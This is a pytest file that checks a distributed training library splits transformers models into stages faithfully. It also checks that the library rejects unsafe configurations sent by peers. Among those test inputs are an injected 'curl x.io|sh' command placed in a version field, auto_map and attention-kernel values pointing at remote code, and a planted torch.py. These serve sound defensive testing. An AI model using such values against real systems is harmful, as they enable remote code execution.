"""Models that transformers builds, in three stages: the same logits, gradients, files and texts."""

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import torch
from torch.nn import functional

from decod.errors import ConfigError, DataError
from decod.model import layouts
from decod.model.generate import LoadedModel
from decod.model.hf import built_model, config_from_hf
from decod.model.hf_folder import read_weights
from decod.model.sampling import Sampling
from decod.model.shape import kept_bytes, model_shapes, stage_shapes
from decod.model.stage import empty_stage
from decod.run import model_layout
from decod.run.model_config import Architecture, ModelConfig
from decod.run.model_layout import CUT_TYPES, TOGETHER_TYPES, canonical
from decod.run.stages_config import StagesConfig
from decod.train.measure import held_bytes
from tests.support.architectures import (
    NUM_BLOCKS,
    STAGES,
    compared,
    placed_stages,
    random_model,
    saved_model,
    small_config,
)

transformers = pytest.importorskip("transformers")
torch.set_num_threads(1)

QUICK = ("mistral", "qwen3_moe", "gpt_neox")
"""A window; experts, which files hold one by one; biases, and a head of another name in files."""

ASKED = [
    *("gemma2", "gemma3_text", "phi3", "olmo2", "smollm3", "granite"),
    *("gpt_oss", "glm4", "qwen3_next"),
]
SLOW = [pytest.param(each, marks=pytest.mark.slow) for each in ASKED]


@pytest.fixture(scope="module")
def mistral(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of a small Mistral with a window."""
    folder = tmp_path_factory.mktemp("mistral") / "model"
    random_model(small_config("mistral")).save_pretrained(folder)
    return folder


def model_in(folder: Path) -> ModelConfig:
    return config_from_hf(json.loads((folder / "config.json").read_text()))


@pytest.mark.parametrize("model_type", [*QUICK, *SLOW])
def test_three_stages_are_the_whole_model(model_type: str, tmp_path: Path) -> None:
    folder = tmp_path / "model"
    found = compared(saved_model(model_type, folder), folder)
    assert found.logits <= 1e-5
    assert found.loss <= 1e-5
    assert found.gradients <= 1e-4
    assert found.bits
    assert (found.apart <= 1e-5) == (model_type not in TOGETHER_TYPES)


def test_types_that_are_asked_for_are_known() -> None:
    assert {*QUICK, *ASKED} <= CUT_TYPES


def test_a_field_that_decod_does_not_have_itself_makes_it_a_model_of_transformers(
    mistral: Path,
) -> None:
    fields = json.loads((mistral / "config.json").read_text())
    model = config_from_hf(fields)
    assert model.model_type is Architecture.TRANSFORMERS
    assert (model.num_hidden_layers, model.hidden_size, model.vocab_size) == (NUM_BLOCKS, 64, 256)
    own = config_from_hf(fields | {"sliding_window": None})
    assert own.model_type is Architecture.LLAMA
    assert model_shapes(own) == model_shapes(model)
    for stage_index in range(3):
        assert stage_shapes(own, STAGES, stage_index) == stage_shapes(model, STAGES, stage_index)


def test_a_text_is_continued_as_by_transformers(mistral: Path) -> None:
    """Past the window, and past the context."""
    prompt = [5, 9, 200, 17, 33]
    loaded = LoadedModel(mistral)
    greedy = Sampling(temperature=0, seed=0)
    found = [*loaded.continuation(prompt, greedy, num_tokens=40)]
    theirs = transformers.AutoModelForCausalLM.from_pretrained(mistral)
    wanted = theirs.generate(
        torch.tensor([prompt]), max_new_tokens=40, do_sample=False, eos_token_id=None
    )
    assert found == wanted[0, len(prompt) :].tolist()
    assert len([*loaded.continuation(prompt, greedy, num_tokens=150)]) == 150


@pytest.mark.parametrize("num_relay_stages", [1, 2])
def test_the_loss_of_the_routers_is_added_where_they_are(
    num_relay_stages: int, tmp_path: Path
) -> None:
    """With all blocks in one stage it is transformers'; else it is added for each stage's own."""
    config = small_config("qwen3_moe")
    config.output_router_logits = True
    config.router_aux_loss_coef = 0.5
    whole = random_model(config)
    whole.save_pretrained(tmp_path)
    tokens = torch.randint(3, 200, (2, 25), generator=torch.Generator().manual_seed(1))
    inputs, targets = tokens[:, :-1], tokens[:, 1:]
    given = whole(inputs, use_cache=False)
    loss = functional.cross_entropy(given.logits.flatten(0, 1), targets.flatten())
    stages = StagesConfig(num_relay_stages=num_relay_stages)
    model = built_model(json.loads((tmp_path / "config.json").read_text()))
    weights = dict(read_weights(tmp_path, model))
    modules: list[Any] = [
        empty_stage(model, stages, index) for index in range(1 + num_relay_stages)
    ]
    for module in modules:
        module.place({name: weights[name] for name in module.parameters_by_name()})
    hidden = modules[0].embed(inputs)
    for module in modules[1:]:
        hidden = module.run_blocks(hidden)
    torch.autograd.backward(modules[0].loss(hidden, targets))
    # The routers' logits, one entry for each block.
    from transformers.models.qwen3_moe.modeling_qwen3_moe import load_balancing_loss_func

    size = -(-NUM_BLOCKS // num_relay_stages)
    for first in range(0, NUM_BLOCKS, size):
        logits = tuple(given.router_logits[first : first + size])
        loss = loss + 0.5 * len(logits) / NUM_BLOCKS * load_balancing_loss_func(logits, 4, 2)
    if num_relay_stages == 1:
        alone = functional.cross_entropy(given.logits.flatten(0, 1), targets.flatten())
        torch.testing.assert_close(loss, alone + 0.5 * given.aux_loss)
    torch.autograd.backward(loss)
    found = {n: each.grad for m in modules for n, each in m.parameters_by_name().items()}
    for name, parameter in whole.named_parameters():
        torch.testing.assert_close(found[name], parameter.grad, rtol=1e-4, atol=1e-6)


@pytest.mark.parametrize("model_type", ["mistral", "gpt_neox"])
def test_the_estimate_of_what_a_stage_keeps_is_not_more_than_it_keeps(
    model_type: str, tmp_path: Path
) -> None:
    """A stage must not be refused that fits. It may keep some more."""
    config = small_config(model_type)
    random_model(config).save_pretrained(tmp_path)
    model = built_model(json.loads((tmp_path / "config.json").read_text()))
    relay = placed_stages(tmp_path, model)[1]
    hidden_BTD = torch.randn(2, 32, 64)
    kept = held_bytes(lambda: relay.run_blocks(hidden_BTD.requires_grad_()), relay, hidden_BTD)
    estimate = kept_bytes(model, 64, blocks=range(1, 3), is_first=False)
    assert estimate <= kept <= 2.5 * estimate


# --- refusals -----------------------------------------------------------------------------------


def config_of(**changes: Any) -> dict[str, Any]:
    fields: dict[str, Any] = small_config("mistral").to_dict() | changes
    return fields


@pytest.mark.parametrize(
    ("changes", "told"),
    [
        ({"quantization_config": {"bits": 4}}, "quantization_config"),
        ({"is_encoder_decoder": True}, "is_encoder_decoder"),
        ({"attention_dropout": 0.1}, "set attention_dropout to 0.0"),
        ({"model_type": "t5gemma"}, "model_type is t5gemma"),
        ({"hidden_size": "wide"}, "config.json does not describe a model"),
        ({"num_attention_heads": 0}, "config.json does not describe a model"),
        ({"rms_norm_eps": float("nan")}, "a number is NaN"),
        ({"use_bidirectional_attention": True}, "use_bidirectional_attention"),
        ({"num_hidden_layers": 10**9}, "num_hidden_layers is 1000000000"),
    ],
)
def test_what_can_not_be_trained_is_refused_by_name(changes: dict[str, Any], told: str) -> None:
    with pytest.raises(DataError, match=told):
        config_from_hf(config_of(**changes))


def test_hosts_must_have_the_same_release(monkeypatch: pytest.MonkeyPatch, mistral: Path) -> None:
    text = model_in(mistral).config.replace(
        f'"transformers_version":"{model_layout.installed_version()}"',
        '"transformers_version":"4.1"',
    )
    other = ModelConfig(
        **{
            **{name: getattr(model_in(mistral), name) for name in model_layout.SIZES},
            "model_type": Architecture.TRANSFORMERS,
            "config": text,
        }
    )
    with pytest.raises(ConfigError, match=r"built by transformers 4\.1, and .*'transformers==4\.1"):
        model_shapes(other)
    monkeypatch.setattr(layouts, "installed_version", lambda: "4.1")
    assert model_shapes(other) == model_shapes(model_in(mistral))


@pytest.mark.parametrize(
    "changes",
    [
        {"auto_map": {"AutoModel": "evil.Model"}},
        {"_attn_implementation": "evil/kernel"},
        {"attn_implementation": "evil/kernel"},
        {"attribute_map": {"zz": "_attn_implementation_internal"}, "zz": "evil/kernel"},
        {"transformers_version": "';curl x.io|sh;'"},
        {"num_hidden_layers": 10**9},
        {"hidden_size": 2 * 10**9},
        {"quantization_config": {"bits": 4}},
        {"return_dict": False},
        {"model_type": "bert"},
        {"model_type": ["mistral"]},
    ],
)
def test_a_peer_can_not_have_transformers_fetch_code_or_take_all_memory(
    mistral: Path, changes: dict[str, Any]
) -> None:
    config = canonical(json.loads(model_in(mistral).config) | changes)
    with pytest.raises(ConfigError):
        ModelConfig(model_type=Architecture.TRANSFORMERS, config=config)


@pytest.mark.parametrize("config", ["", "{", "[]", '{"model_type": "mistral"}', "[" * 60_000])
def test_a_peer_s_configuration_has_one_form(config: str) -> None:
    with pytest.raises(ConfigError, match=r"model\.config is"):
        ModelConfig(model_type=Architecture.TRANSFORMERS, config=config)


def test_the_layout_is_found_without_modules_of_the_working_folder(
    mistral: Path, tmp_path: Path
) -> None:
    """A model's folder may hold code."""
    (tmp_path / "torch.py").write_text("import os; os.mkdir('ran')")
    config = model_in(mistral).config
    program = f"from decod.model.layouts import layout_of; print(layout_of({config!r}).sizes)"
    done = subprocess.run(
        [sys.executable, "-P", "-c", program], cwd=tmp_path, capture_output=True, check=True
    )
    assert b"'hidden_size': 64" in done.stdout
    assert not (tmp_path / "ran").exists()


def test_sizes_are_those_of_the_configuration(mistral: Path) -> None:
    model = model_in(mistral)
    wrong = ModelConfig(
        model_type=Architecture.TRANSFORMERS, config=model.config, hidden_size=128, head_dim=16
    )
    with pytest.raises(ConfigError, match=r"model\.vocab_size is 257: model\.config says 256"):
        model_shapes(wrong)
